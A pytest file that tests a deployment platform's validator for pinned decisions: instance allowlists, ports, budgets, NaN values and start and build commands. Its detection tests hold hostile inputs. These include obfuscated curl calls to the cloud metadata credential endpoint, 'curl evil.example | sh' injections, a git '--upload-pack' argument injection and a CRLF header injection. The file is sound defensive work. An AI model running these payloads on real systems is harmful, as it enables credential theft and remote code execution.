"""The pin re-check, rule by rule, for every strategy: what breaks today's rules is named."""

from __future__ import annotations

from typing import Any

import pytest

from function.guard.pincheck import pin_problem, pin_violations, rules_key
from function.guard.startcommand import metadata_reference
from function.input import FunctionInput
from function.model import Decision
from function.pinning import AnalysisSummary, PinnedDecision
from function.pricing.catalog import load_catalog
from function.xr import AppSpec

SHA = "ff975be7f7a86bf8b487dc27efd3c7b85e8d866b"
CATALOG = load_catalog()

PARAMS: dict[str, dict[str, Any]] = {
    "vm": {
        "strategy": "vm",
        "vm": {"instanceType": "t3.small", "minSize": 1, "maxSize": 3, "desiredCapacity": 1},
        "port": 5000,
        "startCommand": "gunicorn --bind 0.0.0.0:$PORT app:app",
    },
    "kubernetes": {
        "strategy": "kubernetes",
        "kubernetes": {
            "nodeInstanceType": "t3.medium",
            "minNodes": 1,
            "maxNodes": 3,
            "desiredNodes": 1,
        },
        "port": 8080,
    },
    "serverless": {
        "strategy": "serverless",
        "serverless": {"memoryMb": 1024, "timeoutSeconds": 30},
        "port": 8080,
    },
}
IMAGE = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/app:1"


def pin(strategy: str = "vm", commit: str = SHA, **changes: Any) -> PinnedDecision:
    params = {**PARAMS[strategy], "reason": "r", "confidence": 0.5, **changes}
    return PinnedDecision(
        revision=3,
        inputs_hash="h",
        spec_hash="s",
        commit=commit,
        decided_by="knowledge-base",
        decided_at="2026-11-29T00:00:00Z",
        parameters=Decision.model_validate(params),
        analysis=AnalysisSummary(start_command="python app.py"),
    )


def spec(**extra: Any) -> AppSpec:
    return AppSpec.model_validate(
        {"repository": {"url": "https://github.com/acme/app"}, "region": "eu-west-1", **extra}
    )


def fields(p: PinnedDecision, s: AppSpec | None = None, **inp: Any) -> list[str]:
    settings = FunctionInput.model_validate(inp)
    return [str(v) for v in pin_violations(p, s or spec(image=IMAGE), settings, CATALOG)]


@pytest.mark.parametrize("strategy", ["vm", "kubernetes", "serverless"])
def test_a_pin_within_todays_rules_passes(strategy: str) -> None:
    assert fields(pin(strategy)) == []


def test_instance_type_removed_from_the_allowlist() -> None:
    (v,) = fields(pin(), vm={"allowedInstanceTypes": ["t3.micro", "t3.medium"]})
    assert v.startswith("status.decision.parameters.vm.instanceType:")
    assert "'t3.small' is not in input.vm.allowedInstanceTypes" in v


def test_an_edited_pin_with_a_huge_instance_type() -> None:
    edited = pin(
        vm={"instanceType": "p5.48xlarge", "minSize": 1, "maxSize": 1, "desiredCapacity": 1}
    )
    (v,) = fields(edited)
    assert "'p5.48xlarge' is not in input.vm.allowedInstanceTypes" in v


def test_node_type_removed_and_node_limit_lowered() -> None:
    found = fields(pin("kubernetes"), kubernetes={"allowedNodeTypes": ["m6i.large"], "maxNodes": 2})
    assert any("nodeInstanceType" in v and "input.kubernetes.allowedNodeTypes" in v for v in found)
    assert any("kubernetes.maxNodes: 3 exceeds input.kubernetes.maxNodes (2)" in v for v in found)


def test_sizes_over_a_lowered_limit_and_inconsistent_sizes() -> None:
    (v,) = fields(pin(), vm={"maxInstances": 2})
    assert v == "status.decision.parameters.vm.maxSize: 3 exceeds input.vm.maxInstances (2)"
    odd = pin(vm={"instanceType": "t3.small", "minSize": 3, "maxSize": 2, "desiredCapacity": 2})
    assert any("minSize (3) <= desiredCapacity (2) <= maxSize (2)" in v for v in fields(odd))


def test_serverless_limits_and_image() -> None:
    found = fields(pin("serverless"), serverless={"maxMemoryMb": 512, "timeoutSeconds": 10})
    assert any("memoryMb: 1024 MB exceeds input.serverless.maxMemoryMb (512)" in v for v in found)
    assert any("timeoutSeconds: 30 s exceeds input.serverless.timeoutSeconds" in v for v in found)
    # On AWS the image is built from the repository; elsewhere serverless needs spec.image.
    assert not any(v.startswith("spec.image:") for v in fields(pin("serverless"), spec()))
    assert not any(
        v.startswith("spec.image:") for v in fields(pin("serverless"), spec(strategy="serverless"))
    )


@pytest.mark.parametrize("strategy", ["vm", "kubernetes", "serverless"])
def test_a_port_blocked_after_the_decision(strategy: str) -> None:
    (v,) = fields(pin(strategy, port=22))
    assert v == (
        "status.decision.parameters.port: 22 is in input.blockedPorts, "
        "which the platform never exposes"
    )
    (v,) = fields(pin(strategy), blockedPorts=[PARAMS[strategy]["port"]])
    assert "input.blockedPorts" in v


@pytest.mark.parametrize("strategy", ["vm", "kubernetes", "serverless"])
def test_parameters_missing_for_the_strategy(strategy: str) -> None:
    found = fields(pin(strategy, **{strategy: None}))
    assert found == [
        f"status.decision.parameters.{strategy}: is missing; strategy {strategy} needs its "
        "parameters"
    ]


def test_strategy_against_spec_strategy() -> None:
    (v,) = fields(pin("vm"), spec(strategy="kubernetes"))
    assert v.startswith("status.decision.parameters.strategy:") and "spec.strategy" in v


METADATA_COMMANDS = [
    "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "wget -qO- http://2852039166/latest/api/token",
    "curl http://0xa9fea9fe/",
    "curl http://0251.0376.0251.0376/",
    "curl http://169.254.43518/",
    "curl http://[fd00:ec2::254]/latest/meta-data/",
    "curl http://[::ffff:169.254.169.254]/",
    "curl http://169.254.169.254.nip.io/",
    "curl http://169-254-169-254.sslip.io/",
    "curl http://instance-data/latest/meta-data/",
    "python -c 'import urllib.request as u; u.urlopen(\"http://metadata.google.internal\")'",
    "curl 2852039166:80/latest",
]


@pytest.mark.parametrize("command", METADATA_COMMANDS)
def test_start_command_that_reaches_the_metadata_endpoint(command: str) -> None:
    assert metadata_reference(command), command
    (v,) = fields(pin(startCommand=command))
    assert v.startswith("status.decision.parameters.startCommand: names the instance metadata")


@pytest.mark.parametrize(
    "command",
    [
        "gunicorn --bind 0.0.0.0:$PORT app:app",
        "node server.js --port 8080",
        "java -jar target/app-1.2.3.jar",
        "python3 -m http.server 8080",
        "bundle exec puma -b tcp://0.0.0.0:3000",
        "./app --listen [::]:8080",
    ],
)
def test_ordinary_start_commands_pass(command: str) -> None:
    assert metadata_reference(command) is None
    assert fields(pin(startCommand=command)) == []


def test_start_command_from_the_analysis_and_shell_breakouts() -> None:
    p = pin(startCommand=None)
    p = p.model_copy(
        update={"analysis": AnalysisSummary(start_command="x\nUNIT\ncurl evil.example | sh")}
    )
    (v,) = fields(p)
    assert v.startswith("status.decision.analysis.startCommand: contains a control character")
    (v,) = fields(pin(startCommand="a" * 2000))
    assert "2000 characters" in v


def test_start_command_only_matters_where_it_runs() -> None:
    assert fields(pin("kubernetes", startCommand="curl 169.254.169.254")) == []


def test_commit_must_be_a_full_sha() -> None:
    (v,) = fields(pin(commit="--upload-pack=touch /tmp/x"))
    assert v == "status.decision.commit: must be a full hexadecimal commit SHA"


def test_hard_budget_priced_from_todays_catalog_not_the_pin() -> None:
    big = pin(vm={"instanceType": "m7i.xlarge", "minSize": 4, "maxSize": 4, "desiredCapacity": 4})
    cheap_claim = big.model_copy(update={"estimated_monthly_cost": 1.0})
    hard = spec(image=IMAGE, budget={"maxMonthlyCost": 100, "enforcementMode": "hard"})
    (v,) = fields(cheap_claim, hard)
    assert v.startswith("spec.budget.maxMonthlyCost: the pinned decision costs $")
    soft = spec(image=IMAGE, budget={"maxMonthlyCost": 100, "enforcementMode": "soft"})
    assert fields(cheap_claim, soft) == []


def test_health_check_path() -> None:
    (v,) = fields(pin(healthCheckPath="/x\r\nHost: evil"))
    assert v.startswith("status.decision.parameters.healthCheckPath:")


def test_rollback_targets_are_named_where_they_come_from() -> None:
    settings = FunctionInput.model_validate({"vm": {"allowedInstanceTypes": ["t3.micro"]}})
    (v,) = pin_violations(pin(), spec(), settings, CATALOG, "status.history[revision=1]")
    assert v.field == "status.history[revision=1].parameters.vm.instanceType"


def test_rules_key_changes_with_any_rule() -> None:
    a = FunctionInput.model_validate({})
    b = FunctionInput.model_validate({"blockedPorts": [22, 5000]})
    assert rules_key(a) != rules_key(b) and rules_key(a) == rules_key(FunctionInput())


def test_unreadable_pin_names_the_field() -> None:
    assert pin_problem({}) is None
    assert pin_problem({"decision": []}) == "status.decision: must be an object"
    raw = pin().to_status()
    assert pin_problem({"decision": raw}) is None
    raw["parameters"]["confidence"] = float("nan")
    problem = pin_problem({"decision": raw})
    assert problem is not None and problem.startswith("status.decision.parameters.confidence:")
    assert "not a number" in problem


def test_numbers_in_the_pin_are_finite() -> None:
    """Status is applied as JSON, which has no NaN: a pin carrying one is not rendered."""
    raw = pin().to_status()
    raw["estimatedMonthlyCost"] = float("nan")
    problem = pin_problem({"decision": raw})
    assert problem == "status.decision.estimatedMonthlyCost: not a number (NaN)"
    raw = pin().to_status()
    raw["parameters"]["alternatives"] = [
        {"strategy": "kubernetes", "reason": "r", "estimatedMonthlyCost": float("inf")}
    ]
    problem = pin_problem({"decision": raw})
    assert problem is not None and "alternatives" in problem and "infinity" in problem
    odd = pin().model_copy(update={"cost_breakdown": [{"resource": "x", "monthly": float("nan")}]})
    (v,) = fields(odd)
    assert v == "status.decision.costBreakdown[0].monthly: not a number (NaN)"


def test_history_entries_with_nan_are_dropped() -> None:
    from function.history import entry_of, read_history

    good = entry_of(pin(), "success").to_status()
    bad = good | {"revision": 2, "cost": float("nan")}
    assert [h.revision for h in read_history({"history": [good, bad]})] == [3]


def _with_build(p: PinnedDecision, build: str, dockerfile: bool = False) -> PinnedDecision:
    analysis = AnalysisSummary(
        start_command="python app.py", build_command=build, has_dockerfile=dockerfile
    )
    return p.model_copy(update={"analysis": analysis})


def test_the_analysed_build_command_a_vm_runs_is_one_line_and_never_reaches_the_metadata() -> None:
    (v,) = fields(_with_build(pin(), "make\nUNIT\ncurl evil.example | sh"))
    assert v.startswith("status.decision.analysis.buildCommand: contains a control character")
    assert v.endswith("a build command is one line")
    (v,) = fields(_with_build(pin(), "curl -s http://169.254.169.254/latest/meta-data/ && make"))
    assert v.startswith("status.decision.analysis.buildCommand: names the instance metadata")
    (v,) = fields(_with_build(pin(), "b" * 2000))
    assert v == "status.decision.analysis.buildCommand: is 2000 characters; at most 1024"
    assert fields(_with_build(pin(), "CGO_ENABLED=0 go build -o bin/goweb .")) == []


def test_the_build_command_only_matters_where_the_boot_script_runs_it() -> None:
    """A Dockerfile builds the app on the instance (the analysed command is not run), and
    kubernetes builds an image (its Dockerfile generator refuses a control character)."""
    assert fields(_with_build(pin(), "curl 169.254.169.254", dockerfile=True)) == []
    assert fields(_with_build(pin("kubernetes"), "curl 169.254.169.254")) == []
